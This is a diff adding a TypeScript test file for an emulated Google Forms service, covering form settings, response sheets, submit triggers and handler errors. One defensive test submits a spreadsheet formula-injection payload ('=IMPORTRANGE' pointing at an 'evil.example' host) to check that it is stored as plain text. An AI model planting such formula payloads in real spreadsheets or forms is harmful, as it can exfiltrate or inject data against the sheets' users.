@@ -1,0 +1,215 @@
+import { AuthMode, FormSubmitHandlerError, type FormSubmitEvent } from '../../../src/local/services';
+import { setup } from './setup';
+
+/** A published orders form linked to spreadsheet `ledger`, with an installed submit trigger. */
+function ordersForm() {
+  const env = setup();
+  const { services, spreadsheets } = env;
+  const ledger = spreadsheets.add('ledger', 'America/New_York');
+  const form = services.FormApp.create('Turn 3 orders');
+  form.setDescription('Secret orders').setConfirmationMessage('Orders received.').setCollectEmail(true);
+  form.addParagraphTextItem().setTitle('Player').setRequired(true);
+  form.addParagraphTextItem().setTitle('Orders').setHelpText('One order per line').setRequired(true);
+  form.setDestination(services.FormApp.DestinationType.SPREADSHEET, 'ledger');
+  form.setPublished(true);
+  services.ScriptApp.newTrigger('onOrders')
+    .forSpreadsheet(spreadsheets.openById('ledger'))
+    .onFormSubmit()
+    .create();
+  return { ...env, ledger, form };
+}
+
+describe('FormApp forms', () => {
+  test('a form keeps its settings and items, and starts unpublished', () => {
+    const { services } = setup();
+    const form = services.FormApp.create('Orders');
+    expect(form.getId()).toMatch(/^form-\d+$/);
+    expect(form.isPublished()).toBe(false);
+    expect(form.isAcceptingResponses()).toBe(false);
+    form.setPublished(true);
+    expect(form.isAcceptingResponses()).toBe(true);
+    form.setAcceptingResponses(false);
+    expect(form.isAcceptingResponses()).toBe(false);
+
+    const item = form.addParagraphTextItem().setTitle('Orders').setHelpText('h').setRequired(true);
+    const items = form.getItems();
+    expect(items).toHaveLength(1);
+    expect(items[0].getType()).toBe(services.FormApp.ItemType.PARAGRAPH_TEXT);
+    expect(items[0].getTitle()).toBe('Orders');
+    const again = form.getItemById(item.getId())?.asParagraphTextItem();
+    expect(again?.isRequired()).toBe(true);
+    expect(again?.getHelpText()).toBe('h');
+    expect(form.getItemById(999)).toBeNull();
+
+    const reopened = services.FormApp.openById(form.getId());
+    expect(reopened.setCollectEmail(true).collectsEmail()).toBe(true);
+    expect(reopened.getTitle()).toBe('Orders');
+    expect(form.getPublishedUrl()).toBe(`https://docs.google.com/forms/d/${form.getId()}/viewform`);
+    expect(form.getEditUrl()).toBe(`https://docs.google.com/forms/d/${form.getId()}/edit`);
+    expect(() => form.getDestinationId()).toThrow(/does not currently have a response destination/);
+    expect(() => services.FormApp.openById('nope')).toThrow(/No item with the given ID/);
+  });
+
+  test('setDestination adds a first tab "Form Responses N" with the header row', () => {
+    const { form, ledger, services } = ordersForm();
+    expect(form.getDestinationId()).toBe('ledger');
+    expect(ledger.sheets.map((s) => s.name)).toEqual(['Form Responses 1', 'Sheet1']);
+    expect(ledger.sheet('Form Responses 1').dump()).toEqual([
+      ['Timestamp', 'Email Address', 'Player', 'Orders'],
+    ]);
+    expect(ledger.sheet('Form Responses 1').frozenRows).toBe(1);
+    const other = services.FormApp.create('Other');
+    other.addParagraphTextItem().setTitle('Q');
+    other.setDestination(services.FormApp.DestinationType.SPREADSHEET, 'ledger');
+    expect(ledger.sheets.map((s) => s.name)).toEqual(['Form Responses 2', 'Form Responses 1', 'Sheet1']);
+    expect(ledger.sheet('Form Responses 2').dump()).toEqual([['Timestamp', 'Q']]);
+  });
+});
+
+describe('FormApp.submit (emulation only)', () => {
+  test('appends the row and fires the trigger as the respondent with a Google-shaped event', () => {
+    const { world, services, globals, ledger, form } = ordersForm();
+    const events: { event: FormSubmitEvent; user: string; execution: number }[] = [];
+    globals.set('onOrders', (e) => {
+      events.push({
+        event: e as FormSubmitEvent,
+        user: services.Session.getActiveUser().getEmail(),
+        execution: world.execution,
+      });
+    });
+
+    const result = services.FormApp.submit(form.getId(), 'red@example.com', {
+      Player: 'Red',
+      Orders: 'A1 -> B2',
+    });
+
+    expect(result.row).toBe(2);
+    expect(result.runs).toEqual([expect.objectContaining({ handler: 'onOrders', ok: true })]);
+    const sheet = ledger.sheet('Form Responses 1');
+    expect(sheet.dump()[1]).toEqual([new Date('2026-03-01T12:00:00Z'), 'red@example.com', 'Red', 'A1 -> B2']);
+    expect(events).toHaveLength(1);
+    const { event, user, execution } = events[0];
+    expect(user).toBe('red@example.com');
+    expect(execution).toBeGreaterThan(0);
+    expect(event.authMode).toBe(AuthMode.FULL);
+    expect(event.values).toEqual(['3/1/2026 7:00:00', 'red@example.com', 'Red', 'A1 -> B2']); // ledger is in New York
+    expect(event.namedValues).toEqual({
+      Timestamp: ['3/1/2026 7:00:00'],
+      'Email Address': ['red@example.com'],
+      Player: ['Red'],
+      Orders: ['A1 -> B2'],
+    });
+    expect(event.range.getRow()).toBe(2);
+    expect(event.range.getNumRows()).toBe(1);
+    expect(event.range.getValues()[0][2]).toBe('Red');
+    expect(event.source.getId()).toBe('ledger');
+    expect(event.triggerUid).toBe(services.ScriptApp.allTriggers[0].id);
+    expect(services.FormApp.forms[0].responses).toEqual([
+      {
+        timestamp: '2026-03-01T12:00:00.000Z',
+        email: 'red@example.com',
+        answers: { Player: 'Red', Orders: 'A1 -> B2' },
+      },
+    ]);
+  });
+
+  test('formula-looking (and number-looking) answers are stored as literal text, never as formulas', () => {
+    const { services, ledger, form, globals } = ordersForm();
+    globals.set('onOrders', () => undefined);
+    const evil = '=IMPORTRANGE("https://evil.example/x","A1")';
+    services.FormApp.submit(form.getId(), 'mallory@example.com', { Player: "'Mallory", Orders: evil });
+    services.FormApp.submit(form.getId(), 'mallory@example.com', { Player: '12', Orders: 'TRUE' });
+    const sheet = ledger.sheet('Form Responses 1');
+    const rows = sheet.getRange(2, 1, 2, 4);
+    expect(rows.getFormulas()).toEqual([
+      ['', '', '', ''],
+      ['', '', '', ''],
+    ]);
+    expect(rows.getValues().map((r) => r.slice(2))).toEqual([
+      ["'Mallory", evil],
+      ['12', 'TRUE'],
+    ]);
+  });
+
+  test('a submission is refused when unpublished, closed, incomplete, unknown or repeated', () => {
+    const { services, form, globals } = ordersForm();
+    globals.set('onOrders', () => undefined);
+    const id = form.getId();
+    const answers = { Player: 'Red', Orders: 'hold' };
+    expect(() => services.FormApp.submit(id, 'red@example.com', { Player: 'Red', Orders: ' ' })).toThrow(
+      '"Orders" is a required question.',
+    );
+    expect(() => services.FormApp.submit(id, 'red@example.com', { ...answers, Bribe: '100' })).toThrow(
+      /no question titled "Bribe"/,
+    );
+    form.setAcceptingResponses(false);
+    expect(() => services.FormApp.submit(id, 'red@example.com', answers)).toThrow(/not accepting responses/);
+    form.setPublished(false);
+    expect(() => services.FormApp.submit(id, 'red@example.com', answers)).toThrow(/not published/);
+    form.setPublished(true);
+    form.setLimitOneResponsePerUser(true);
+    services.FormApp.submit(id, 'red@example.com', answers);
+    expect(() => services.FormApp.submit(id, 'RED@example.com', answers)).toThrow(/already responded/);
+    expect(services.FormApp.forms[0].responses).toHaveLength(1);
+  });
+
+  test('a failing handler does not lose the response; the error is reported after every handler ran', () => {
+    const { services, spreadsheets, form, globals, ledger } = ordersForm();
+    const ran: string[] = [];
+    globals.set('onOrders', () => {
+      throw new Error('ledger is locked');
+    });
+    globals.set('audit', () => ran.push('audit'));
+    services.ScriptApp.newTrigger('audit')
+      .forSpreadsheet(spreadsheets.openById('ledger'))
+      .onFormSubmit()
+      .create();
+    const submit = () =>
+      services.FormApp.submit(form.getId(), 'red@example.com', { Player: 'Red', Orders: 'x' });
+    expect(submit).toThrow(FormSubmitHandlerError);
+    expect(submit).toThrow('Form-submit handler failed: onOrders: ledger is locked');
+    expect(ran).toEqual(['audit', 'audit']);
+    expect(ledger.sheet('Form Responses 1').dump()).toHaveLength(3);
+    const quiet = services.FormApp.submit(
+      form.getId(),
+      'red@example.com',
+      { Player: 'Red', Orders: 'y' },
+      { throwOnHandlerError: false },
+    );
+    expect(quiet.runs.map((r) => r.ok)).toEqual([false, true]);
+  });
+
+  test('questions added after linking get new columns at the end', () => {
+    const { services, ledger, form, globals } = ordersForm();
+    globals.set('onOrders', () => undefined);
+    form.addParagraphTextItem().setTitle('Notes');
+    services.FormApp.submit(form.getId(), 'red@example.com', { Player: 'Red', Orders: 'o', Notes: 'n' });
+    const rows = ledger.sheet('Form Responses 1').dump();
+    expect(rows[0]).toEqual(['Timestamp', 'Email Address', 'Player', 'Orders', 'Notes']);
+    expect(rows[1].slice(2)).toEqual(['Red', 'o', 'n']);
+  });
+
+  test('the emulation’s own spreadsheet work is not counted as the script’s calls', () => {
+    const { world, services, form, globals } = ordersForm();
+    globals.set('onOrders', () => undefined);
+    const id = form.getId();
+    world.calls.reset();
+    services.FormApp.submit(id, 'red@example.com', { Player: 'Red', Orders: 'o' });
+    expect(world.calls.byMethod()).toEqual({});
+    form.addParagraphTextItem().setTitle('Extra');
+    expect(world.calls.byMethod()).toEqual({
+      'Form.addParagraphTextItem': 1,
+      'ParagraphTextItem.setTitle': 1,
+    });
+  });
+
+  test('an injected failure hits the chosen call', () => {
+    const { world, services } = setup();
+    world.calls.failAt(2);
+    const form = services.FormApp.create('Orders');
+    expect(() => form.addParagraphTextItem()).toThrow(
+      'Injected failure at service call 2 (Form.addParagraphTextItem)',
+    );
+    expect(form.getItems()).toHaveLength(0);
+  });
+});
